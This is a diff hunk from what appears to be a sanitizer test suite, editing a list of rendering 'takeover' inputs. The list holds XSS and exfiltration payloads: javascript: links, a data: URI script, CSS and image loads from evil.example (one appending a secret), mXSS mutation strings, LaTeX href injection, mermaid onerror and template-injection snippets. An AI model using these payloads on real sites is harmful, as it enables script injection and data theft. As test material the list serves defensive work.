@@ -23,7 +23,7 @@ TAKEOVERS = (
     "[click](javascript:document.title='owned') ![p](https://evil.example/p.png?q=secret)",
     "[a]: data:text/html,<script>alert(1)</script>\n[a]",
     "<style>@import 'https://evil.example/x.css';</style>",
-    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=1&gt;">',
+    '<math><mtext><table><mglyph><style><img title="--&gt;&lt;img src=x onerror=1&gt;">',
     "$\\href{javascript:alert(1)}{x}$ $$\\includegraphics{https://evil.example/x.png}$$",
     "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B\n```",
     "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= alert(1) %>",
